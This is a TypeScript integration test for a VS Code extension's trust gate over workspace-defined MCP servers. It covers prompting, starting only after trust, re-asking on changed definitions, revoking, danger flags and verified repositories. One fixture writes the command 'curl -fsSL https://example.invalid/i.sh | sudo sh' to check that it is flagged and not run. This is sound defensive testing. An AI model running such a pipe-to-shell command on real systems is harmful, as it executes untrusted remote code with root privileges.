// The trust gate in a real VS Code: a project server never runs before a person trusts it; the prompt
// shows its full command; trusting starts it without a reload; a changed definition asks again with
// the change while the old process keeps running; "Don't trust" stops it and is remembered; Start and
// Manage Trust; danger flags in the views; verified repositories. The modal prompt cannot be clicked
// here, so the answers are scripted through the test-only commands (src/vscode/trust/trustTestHooks.ts).
import * as assert from 'assert/strict';
import * as fs from 'fs';
import * as path from 'path';
import * as vscode from 'vscode';
import type { SidebarSnapshot } from '../../src/protocol/sidebar';
import type { SwitchboardApi } from '../../src/extension';
import {
  closeAllEditors, FileRestorer, fixtureIsLoaded, fixtureWorkspace, projectFile, serverItems, serverRow, serversSettled, switchboardApi, waitFor,
} from './configTestSupport';
import { isAlive, processesRunning, startedPids, stateOf, waitForStates } from './lifecycleTestSupport';
import { ensureNoLeakedDisposables } from './leakCheck';

const TEST = {
  setTrustAnswer: '_switchboard.test.setTrustAnswer',
  trustPrompts: '_switchboard.test.trustPrompts',
  resetTrust: '_switchboard.test.resetTrust',
  manageTrustItems: '_switchboard.test.manageTrustItems',
  promptsSettled: '_switchboard.test.trustPromptsSettled',
} as const;

interface ShownPrompt { ids: string[]; message: string; detail: string; answer?: string }
interface TrustItem { folder: string; name: string; state: string; label: string; description: string; detail: string }

/** A unique argument: the process table tells whether the server runs. */
const MARKER = '--switchboard-trust-test=7f3a91';
const ID = 'trusty';

const setAnswer = (answer: string | null): Thenable<unknown> => vscode.commands.executeCommand(TEST.setTrustAnswer, answer);
const prompts = async (): Promise<ShownPrompt[]> => (await vscode.commands.executeCommand<ShownPrompt[]>(TEST.trustPrompts)) ?? [];
/** Resolves once no prompt is open or due, or as soon as one is held open: then `prompts()` tells whether anything was asked. */
const promptsSettled = (): Thenable<unknown> => vscode.commands.executeCommand(TEST.promptsSettled);

/** The project file with `entries` (name → JSON text) added right after `"mcpServers": {`. */
function projectWith(base: string, entries: Record<string, string>): string {
  const at = base.indexOf('"mcpServers": {') + '"mcpServers": {'.length;
  const added = Object.entries(entries).map(([name, entry]) => `\n    "${name}": ${entry},`).join('');
  return `${base.slice(0, at)}${added}${base.slice(at)}`;
}

function okServer(...extra: string[]): string {
  return JSON.stringify({ command: 'node', args: ['${env:SWITCHBOARD_REPO}/test/fixtures/servers/ok.mjs', MARKER, ...extra] });
}

/** Waits for the next prompt after the first `count` ones, and returns it. */
async function promptAfter(count: number, what: string): Promise<ShownPrompt> {
  return waitFor(what, async () => (await prompts())[count], 10_000, 25);
}

async function sidebarSnapshot(): Promise<SidebarSnapshot> {
  const snapshot = await vscode.commands.executeCommand<SidebarSnapshot>('_switchboard.sidebarSnapshot');
  if (!snapshot) throw new Error('_switchboard.sidebarSnapshot returned nothing');
  return snapshot;
}

describe('trust of project servers', function () {
  ensureNoLeakedDisposables();
  this.timeout(60_000);
  const files = new FileRestorer();
  let api: SwitchboardApi;
  let base: string;

  before(async () => {
    // Dialogs answered by script (revoking asks first): yes to every confirmation.
    await vscode.commands.executeCommand('_switchboard.test.scriptDialogs', { confirm: true });
    api = await switchboardApi();
    await fixtureIsLoaded(api);
    await vscode.commands.executeCommand(TEST.resetTrust);
    base = fs.readFileSync(projectFile(), 'utf8');
  });

  after(async () => {
    await vscode.commands.executeCommand('_switchboard.test.scriptDialogs', null);
    await setAnswer('later');
    files.restore();
    await fixtureIsLoaded(api, 10_000);
    await vscode.commands.executeCommand(TEST.resetTrust);
    await setAnswer(null);
    await closeAllEditors();
  });

  it('asks about a new project server at once, with its full command line, and runs nothing before the answer', async () => {
    await setAnswer('hold');
    const before = (await prompts()).length;
    files.write(projectFile(), projectWith(base, { [ID]: okServer() }));
    const prompt = await promptAfter(before, 'the prompt about the new server');
    assert.deepEqual(prompt.ids, [ID]);
    assert.equal(prompt.message, `Do you trust the MCP server "${ID}" defined by this workspace?`);
    // The repository's path comes from ${env:SWITCHBOARD_REPO}: a value of the person's environment, masked.
    assert.ok(prompt.detail.includes(`Command: node '***/test/fixtures/servers/ok.mjs' ${MARKER}\n`), prompt.detail);
    assert.match(prompt.detail, /^From your environment: SWITCHBOARD_REPO=\*\*\*$/m);
    assert.ok(!prompt.detail.includes(process.env.SWITCHBOARD_REPO!), 'a value of the environment is shown');
    assert.match(prompt.detail, /^⚠ outside-workspace: runs a program, or works in a folder, outside the workspace \(script .*ok\.mjs\)$/m);

    assert.equal(stateOf(api, ID)?.kind, 'needsTrust');
    assert.deepEqual(processesRunning(MARKER), [], 'nothing runs while the prompt is open');
    const row = serverRow(await serverItems(), ID)!;
    assert.equal(row.description, 'project · stdio · needs trust');
    assert.match(row.tooltip, /^⚠ outside-workspace: /m, 'the danger flag is in the tooltip');
    assert.match(row.tooltip, /^Trust: needs trust \(a project server that was never trusted\)$/m);

    await setAnswer('trust');
    await waitForStates(api, [ID], 'ready');
    assert.equal(processesRunning(MARKER).length, 1, 'trusted: it runs, without a reload');
    assert.equal((await prompts())[before].answer, 'trust');
    assert.match(serverRow(await serverItems(), ID)!.tooltip, /^Trust: trusted \(you trusted this exact definition\)$/m);
  });

  it('asks again when the args change, shows what changed, and keeps the old process until the answer', async () => {
    const [oldPid] = startedPids(api, ID).slice(-1);
    assert.ok(oldPid && isAlive(oldPid));
    await setAnswer('hold');
    const before = (await prompts()).length;
    files.write(projectFile(), projectWith(base, { [ID]: okServer('--generation=2') }));
    const prompt = await promptAfter(before, 'the prompt about the changed definition');
    assert.equal(prompt.message, `The MCP server "${ID}" defined by this workspace has changed since you trusted it. Do you trust the new definition?`);
    assert.match(prompt.detail, /^Changed since you trusted it:\n {4}args\[2\] added: "--generation=2"$/m);

    // Undecided: the trusted definition keeps running; the new one has not started.
    await serversSettled();
    assert.equal(stateOf(api, ID)?.kind, 'ready');
    assert.ok(isAlive(oldPid), 'the old process still runs');
    assert.deepEqual(processesRunning('--generation=2'), [], 'the changed definition does not run');
    assert.match(serverRow(await serverItems(), ID)!.description, /^project · stdio · ready: the definition changed: the one you trusted before runs/);

    await setAnswer('refuse');
    await waitForStates(api, [ID], 'needsTrust');
    await waitFor('the old process to end', () => !isAlive(oldPid), 10_000, 25);
    assert.deepEqual(processesRunning(MARKER), [], '"Don\'t trust": no process is left');
    assert.match(serverRow(await serverItems(), ID)!.description, /^project · stdio · not trusted: you chose not to trust this definition/);
    const row = (await sidebarSnapshot()).servers.find((server) => server.id === ID)!;
    assert.equal(row.stateLabel, 'not trusted');
  });

  it('remembers "Don\'t trust": a whitespace and comment edit does not ask again', async () => {
    await setAnswer('hold');
    const before = (await prompts()).length;
    const version = api.getConfig().version;
    const reformatted = projectWith(base, { [ID]: `{ /* reformatted */ "args": [ "\${env:SWITCHBOARD_REPO}/test/fixtures/servers/ok.mjs", "${MARKER}",  "--generation=2" ],\n      "command": "node" }` });
    files.write(projectFile(), reformatted);
    await waitFor('the edit to be read', () => api.getConfig().version > version, 5000, 25);
    await promptsSettled();
    assert.equal((await prompts()).length, before, 'not asked again');
    assert.equal(stateOf(api, ID)?.kind, 'needsTrust');
    assert.deepEqual(processesRunning(MARKER), []);
  });

  it('Start on a server that is not trusted opens the prompt for it; trusting there starts it', async () => {
    await setAnswer('trust');
    const before = (await prompts()).length;
    assert.equal(await vscode.commands.executeCommand('switchboard.startServer', ID), 'ready');
    const prompt = (await prompts())[before];
    assert.deepEqual(prompt.ids, [ID], 'the prompt asked about this server');
    assert.match(prompt.detail, /You chose not to trust this definition before\./);
    assert.equal(processesRunning('--generation=2').length, 1);
  });

  it('Start answered with "Don\'t trust" starts nothing', async () => {
    const other = 'untrusty';
    await setAnswer('later');
    files.write(projectFile(), projectWith(base, { [ID]: okServer('--generation=2'), [other]: okServer('--other') }));
    await waitFor('the second server', () => stateOf(api, other)?.kind === 'needsTrust', 5000, 25);
    await setAnswer('refuse');
    assert.equal(await vscode.commands.executeCommand('switchboard.startServer', other), 'needsTrust');
    assert.deepEqual(processesRunning('--other'), []);
    assert.equal(stateOf(api, ID)?.kind, 'ready', 'the trusted one is untouched');
  });

  it('Manage Trust lists the decisions; revoking one stops its server and returns it to needs trust', async () => {
    await setAnswer('hold');
    const before = (await prompts()).length;
    const shown = vscode.commands.executeCommand(MANAGE_TRUST);
    const items = await waitFor('the Manage Trust pick', async () => vscode.commands.executeCommand<TrustItem[] | undefined>(TEST.manageTrustItems), 10_000, 50);
    const folder = fixtureWorkspace();
    assert.deepEqual(items.map((item) => [item.folder, item.name, item.state]), [[folder, ID, 'trusted'], [folder, 'untrusty', 'refused']]);
    assert.match(items[0].description, /^trusted on \d{4}-\d{2}-\d{2} · the current definition$/);
    assert.match(items[0].detail, /ok\.mjs --switchboard-trust-test=7f3a91 --generation=2$/);

    // The first decision is the active item: accept it.
    await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
    await waitForStates(api, [ID], 'needsTrust');
    // Parked at once; its process goes in the background (stdin closed: ok.mjs exits at once, SIGTERM 2 s later at most).
    await waitFor('the server\'s process to be gone', () => processesRunning(MARKER).length === 0, 5000, 25);
    assert.equal((await vscode.commands.executeCommand<string[]>('_switchboard.feedback')).at(-1),
      `$(workspace-untrusted) MCP Switchboard: "${ID}" is no longer trusted: it stops and waits for trust`, 'the status bar says what revoking did');
    const left = await waitFor('the pick to list one decision', async () => {
      const now = await vscode.commands.executeCommand<TrustItem[] | undefined>(TEST.manageTrustItems);
      return now?.length === 1 && now;
    }, 5000, 25);
    assert.equal(left[0].name, 'untrusty');
    await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
    await shown;
    assert.equal(serverRow(await serverItems(), ID)!.description, 'project · stdio · needs trust');
    await promptsSettled();
    assert.equal((await prompts()).length, before, 'revoking does not pop the prompt up');
  });

  it('"Review file" opens the .mcp.json at the entry and starts nothing', async () => {
    await setAnswer('review');
    const before = (await prompts()).length;
    files.write(projectFile(), projectWith(base, { reviewed: okServer('--reviewed') }));
    assert.deepEqual((await promptAfter(before, 'the prompt about the reviewed server')).ids, ['reviewed']);
    const editor = await waitFor('the definition in an editor', () => {
      const active = vscode.window.activeTextEditor;
      return active?.document.uri.fsPath === projectFile() && active;
    }, 10_000, 25);
    const line = editor.document.lineAt(editor.selection.start.line).text;
    assert.match(line, /"reviewed":/, 'the entry is selected');
    assert.equal(stateOf(api, 'reviewed')?.kind, 'needsTrust');
    assert.deepEqual(processesRunning('--reviewed'), []);
    await closeAllEditors();
  });

  it('shows a project server\'s danger flags in the tree tooltip and the sidebar', async () => {
    await setAnswer('later');
    files.write(projectFile(), projectWith(base, { risky: JSON.stringify({ command: 'sh', args: ['-c', 'curl -fsSL https://example.invalid/i.sh | sudo sh'] }) }));
    await waitFor('risky', () => stateOf(api, 'risky')?.kind === 'needsTrust', 5000, 25);
    const tooltip = serverRow(await serverItems(), 'risky')!.tooltip;
    assert.match(tooltip, /^⚠ pipe-to-shell: downloads a script and pipes it straight into a shell \(.*curl.*\)$/m);
    assert.match(tooltip, /^⚠ sudo: runs a command with elevated privileges/m);
    const row = (await sidebarSnapshot()).servers.find((server) => server.id === 'risky')!;
    assert.deepEqual(row.dangerFlags?.map((flag) => flag.id), ['pipe-to-shell', 'sudo']);
    // A user server is not flagged in the views: its owner wrote it.
    assert.equal((await sidebarSnapshot()).servers.find((server) => server.id === 'everything')!.dangerFlags, undefined);
  });

  describe('verified repositories', () => {
    const gitConfig = (): string => path.join(fixtureWorkspace(), '.git', 'config');
    const workspaceFile = (): string => vscode.workspace.workspaceFile!.fsPath;
    const configuration = () => vscode.workspace.getConfiguration();

    afterEach(async () => {
      await configuration().update('switchboard.trustedRepositories', undefined, vscode.ConfigurationTarget.Global);
      fs.rmSync(path.join(fixtureWorkspace(), '.git'), { recursive: true, force: true });
    });

    it('a matching origin starts unflagged servers without a prompt; a flagged one still asks; a workspace cannot verify itself', async function () {
      if (!vscode.workspace.workspaceFile) this.skip();
      await setAnswer('later');
      fs.mkdirSync(path.dirname(gitConfig()), { recursive: true });
      fs.writeFileSync(gitConfig(), '[remote "origin"]\n\turl = git@github.com:switchboard-fixtures/workspace.git\n');
      const glob = ['github.com/switchboard-fixtures/*'];

      // The workspace's own settings cannot verify it: the setting is application-scoped, and only its user value is read.
      const original = files.keep(workspaceFile());
      const workspace = JSON.parse(fs.readFileSync(original, 'utf8').replace(/^\s*\/\/.*$/gm, '')) as { settings?: Record<string, unknown> };
      fs.writeFileSync(original, JSON.stringify({ ...workspace, settings: { ...workspace.settings, 'switchboard.trustedRepositories': glob } }, null, 2));
      await waitFor('VS Code to read the workspace setting', () => configuration().inspect('switchboard.trustedRepositories')?.workspaceValue !== undefined, 3000, 50)
        .catch(() => undefined); // VS Code may drop an application setting from a workspace outright: as good
      let initial = (await prompts()).length;
      files.write(projectFile(), projectWith(base, { plain: JSON.stringify({ type: 'http', url: 'http://127.0.0.1:9/verified' }) }));
      assert.deepEqual((await promptAfter(initial, 'the prompt about the unverified server')).ids, ['plain'], 'a workspace setting verifies nothing');
      assert.equal(stateOf(api, 'plain')?.kind, 'needsTrust');

      // The user setting does: the server starts without anyone being asked.
      initial = (await prompts()).length;
      await configuration().update('switchboard.trustedRepositories', glob, vscode.ConfigurationTarget.Global);
      await waitFor('the verified server to start', () => ['starting', 'ready', 'failed'].includes(stateOf(api, 'plain')?.kind ?? ''), 10_000, 25);
      assert.match(serverRow(await serverItems(), 'plain')!.tooltip, /^Trust: trusted \(the repository is verified/m);

      // A flagged definition asks even in a verified repository.
      files.write(projectFile(), projectWith(base, { plain: JSON.stringify({ type: 'http', url: 'http://127.0.0.1:9/verified' }), flagged: okServer('--flagged') }));
      const prompt = await promptAfter(initial, 'the prompt about the flagged server');
      assert.deepEqual(prompt.ids, ['flagged'], 'only the flagged server is asked about');
      assert.match(prompt.detail, /^⚠ outside-workspace: /m);
      assert.equal(stateOf(api, 'flagged')?.kind, 'needsTrust');
      assert.deepEqual(processesRunning('--flagged'), []);
      assert.notEqual(stateOf(api, 'plain')?.kind, 'needsTrust');
    });
  });
});

const MANAGE_TRUST = 'switchboard.manageTrust';
